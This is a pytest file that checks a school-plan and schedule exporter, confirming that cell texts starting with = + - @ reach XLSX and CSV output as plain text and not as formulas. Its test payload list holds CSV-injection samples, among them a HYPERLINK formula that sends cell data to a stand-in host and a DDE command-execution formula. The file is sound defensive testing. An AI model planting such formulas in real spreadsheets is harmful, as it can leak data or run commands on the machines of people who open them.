"""No text from content reaches a published spreadsheet as a formula (OWASP «CSV Injection»).

A scratch project whose plan and schedule carry texts starting with = + - @ (and the full-width
forms) is built with `build.py build`; its XLSX files are read back with openpyxl and as raw XML,
its CSV with the csv module.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from oko.outputs.tables import csv_field, workbook_bytes
from tests.schedule_fixtures import make_school

ROOT = Path(__file__).resolve().parent.parent
NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?d="&A1;"Подробнее")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "=1+1 и ещё текст",
)
PLAN = """\
title: "План мероприятий"
organisation: school
academic_year: "2025-2026"
items:
  - activity: '{0}'
    deadline: '{1}'
    responsible: [{{position: '{2}'}}, {{position: '{3}'}}]
    result: '{4}'
  - activity: '{5}'
    deadline: "В течение года"
    responsible: [{{position: '{6}'}}]
    result: "Обычный текст"
"""
PROCEDURES = """\
- {{date: "14.10.2025", classes: "5А", subject: Математика, kind: контрольная работа, lesson: 2, note: '{0}'}}
- {{date: "15.10.2025", classes: "5Б", subject: Русский язык, kind: диктант, note: '{1}'}}
- {{date: "16.10.2025", classes: "6А", subject: Математика, kind: контрольная работа, note: '{2}'}}
- {{date: "17.10.2025", classes: "5А", subject: Музыка, kind: проверочная работа, note: '{3}'}}
- {{date: "21.10.2025", classes: "5Б", subject: Математика, kind: контрольная работа, note: '{4}'}}
- {{date: "22.10.2025", classes: "6А", subject: Русский язык, kind: диктант, note: '{5}'}}
- {{date: "23.10.2025", classes: "5А", subject: Русский язык, kind: диктант, note: '{6}'}}
"""


def yaml_single(text: str) -> str:
    return text.replace("'", "''")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("formulas")
    quoted = [yaml_single(p) for p in PAYLOADS]
    make_school(root / "project", textwrap.indent(PROCEDURES.format(*quoted), "  "))
    (root / "project" / "content" / "plans").mkdir()
    (root / "project" / "content" / "plans" / "formulas.yaml").write_text(PLAN.format(*quoted), "utf-8")
    out = root / "site"
    result = subprocess.run([sys.executable, str(ROOT / "build.py"), "--project", str(root / "project"), "build",
                             "--out", str(out)], capture_output=True, text=True, cwd=ROOT, timeout=300)
    assert result.returncode == 0, result.stderr
    return out


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as book:
        return book.read("xl/worksheets/sheet1.xml").decode("utf-8")


def text_cells(path: Path) -> list[tuple[object, str]]:
    sheet = openpyxl.load_workbook(path).active
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_no_formula(path: Path, expected: set[str]) -> None:
    """Every payload is a typed string cell equal to the text; the sheet XML has no <f> at all."""
    tree = ElementTree.fromstring(sheet_xml(path))
    assert tree.findall(f".//{NS}f") == [], path
    inline = {"".join(cell.itertext()) for cell in tree.iter(f"{NS}c") if cell.get("t") == "inlineStr"}
    assert expected <= inline, expected - inline
    cells = text_cells(path)
    assert [value for value, kind in cells if kind not in ("s", "n", "d")] == []
    assert expected <= {value for value, kind in cells if kind == "s"}


def test_plan_xlsx_holds_every_payload_as_text(site: Path) -> None:
    cells = {PAYLOADS[0], PAYLOADS[1], f"{PAYLOADS[2]}; {PAYLOADS[3]}", PAYLOADS[4], PAYLOADS[5], PAYLOADS[6]}
    assert_no_formula(site / "plans" / "formulas.xlsx", cells)


def test_schedule_xlsx_holds_every_payload_as_text(site: Path) -> None:
    folder = site / "schedule" / "2025-2026"
    assert_no_formula(folder / "school.xlsx", set(PAYLOADS))
    assert_no_formula(folder / "5a.xlsx", {PAYLOADS[0], PAYLOADS[3], PAYLOADS[6]})


def test_schedule_xlsx_keeps_numbers_and_dates_typed(site: Path) -> None:
    sheet = openpyxl.load_workbook(site / "schedule" / "2025-2026" / "school.xlsx").active
    first = [cell for cell in sheet[2]]
    assert (first[0].data_type, first[0].number_format) == ("d", "DD.MM.YYYY")
    assert (first[5].value, first[5].data_type) == (45, "n")
    assert (first[6].value, first[6].data_type) == (2, "n")


def test_schedule_csv_quotes_every_text_and_prefixes_formulas(site: Path) -> None:
    raw = (site / "schedule" / "2025-2026" / "school.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline=""), delimiter=";"))
    notes = [row[8] for row in rows[1:]]
    assert notes == ["'" + text for text in PAYLOADS]
    for row in rows:
        assert not any(value.startswith(tuple("=+-@＝＋－＠")) for value in row), row
    lines = raw.split("\r\n")
    assert lines[1] == ('"14.10.2025";"5А";"Математика";"контрольная работа";"школьный";45;2;"";'
                        '"\'=HYPERLINK(""http://example.invalid/?d=""&A1;""Подробнее"")";"";"";""')  # window, later
    assert lines[0].startswith('"Дата";"Классы";"Предмет"')


def test_schedule_csv_of_a_class_too(site: Path) -> None:
    raw = (site / "schedule" / "2025-2026" / "5a.csv").read_bytes().decode("utf-8-sig")
    notes = [row[8] for row in csv.reader(io.StringIO(raw, newline=""), delimiter=";")][1:]
    assert notes == ["'" + PAYLOADS[0], "'" + PAYLOADS[3], "'" + PAYLOADS[6]]


def test_error_codes_control_characters_and_negative_numbers() -> None:
    """«#N/A» would be an error cell, a BEL would make openpyxl refuse the book; -5 stays a number."""
    data = workbook_bytes("Т", ("a", "b", "c", "d"), (5, 5, 5, 5), [["#N/A", "звонок\x07", -5, " =1+1"]], "т")
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [(cell.value, cell.data_type, cell.quotePrefix) for cell in book.active[2]]
    assert cells == [("#N/A", "s", False), ("звонок", "s", False), (-5, "n", False), (" =1+1", "s", True)]
    assert csv_field(-5) == -5 and csv_field("-5") == "'-5" and csv_field(" =1") == "' =1"
    assert csv_field("5-й класс") == "5-й класс"
